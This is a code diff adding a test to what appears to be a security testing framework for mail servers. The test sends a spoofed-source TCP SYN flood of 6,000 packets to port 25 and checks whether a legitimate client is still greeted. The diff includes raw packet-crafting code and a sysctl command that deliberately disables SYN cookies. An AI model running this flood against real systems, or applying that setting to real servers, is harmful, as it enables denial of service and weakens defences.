@@ -3,12 +3,15 @@
 from __future__ import annotations
 
 import asyncio
+import random
+import socket
+import struct
 import time
 
 from outpost.attack.evidence import Evidence
 from outpost.attack.ground import Ground, letter, token
 from outpost.attack.registry import attack
-from outpost.attack.weakness import postfix
+from outpost.attack.weakness import Weakness, postfix
 from outpost.attack.wire import CLOSED, SILENT, Reply, Session
 
 IDLE = 130
@@ -255,3 +258,60 @@ async def envelopes_without_end(ground: Ground, seen: Evidence) -> None:
     taken = sum(reply.good for reply in answers)
     refused = next((reply for reply in answers if not reply.good), answers[-1])
     seen.expect(refused, "450 4.7.1", what=f"after {taken} envelopes")
+
+
+HALF_OPEN = 6000
+
+
+def _checksum(data: bytes) -> int:
+    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    total = (total >> 16) + (total & 0xFFFF)
+    return ~(total + (total >> 16)) & 0xFFFF
+
+
+def _syn(source: str, target: str, port: int, number: int) -> bytes:
+    """An IPv4 packet that asks for a connection and will never answer."""
+    ends = socket.inet_aton(source) + socket.inet_aton(target)
+    tcp = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, number, 0, 5 << 4, 2, 64240, 0, 0)
+    check = _checksum(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + tcp)
+    ip = (
+        struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), number & 0xFFFF, 0, 64, socket.IPPROTO_TCP, 0) + ends
+    )
+    return ip + tcp[:16] + struct.pack("!H", check) + tcp[18:]
+
+
+NO_COOKIES = Weakness(
+    role="mta",
+    what="net.ipv4.tcp_syncookies=0, a short queue of half-open connections",
+    keeps=("/etc/sysctl.d/90-outpost.conf",),
+    steps="sysctl -qw net.ipv4.tcp_syncookies=0 net.ipv4.tcp_max_syn_backlog=128",
+    activate="true",
+)
+
+
+@attack("3k", without=NO_COOKIES)
+async def half_open_connections(ground: Ground, seen: Evidence) -> None:
+    """Requests for connections from addresses that nobody has: they are never completed, and fill the table."""
+    stem = str(ground.info["world"]["attacker"]["addresses"]["wan"][0]).rpartition(".")[0]
+    nobody = [f"{stem}.{octet}" for octet in range(231, 251)]
+    raw = ground.internet.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    chance = random.Random(7)  # noqa: S311 (the same packets every time)
+    waits = []
+    try:
+        for part in range(4):
+            for number in range(HALF_OPEN // 4):
+                packet = _syn(chance.choice(nobody), ground.door, 25, part * HALF_OPEN + number)
+                raw.sendto(packet, (ground.door, 0))
+                if number % 200 == 0:
+                    await asyncio.sleep(0.02)
+            started = time.monotonic()
+            try:
+                async with await ground.smtp(seen, ground.stranger, patience=15) as session:
+                    seen.expect(session.greeting, "220", what="an honest stranger")
+            except (OSError, TimeoutError) as error:
+                seen.check(held=False, expected="a connection", observed=f"none: {type(error).__name__}")
+            waits.append(time.monotonic() - started)
+    finally:
+        raw.close()
+    seen.note(f"({HALF_OPEN} requests; waits {', '.join(f'{wait:.1f}' for wait in waits)} s)")
+    seen.check(max(waits) < 10, "greeted within 10 s", f"waited {max(waits):.1f} s")
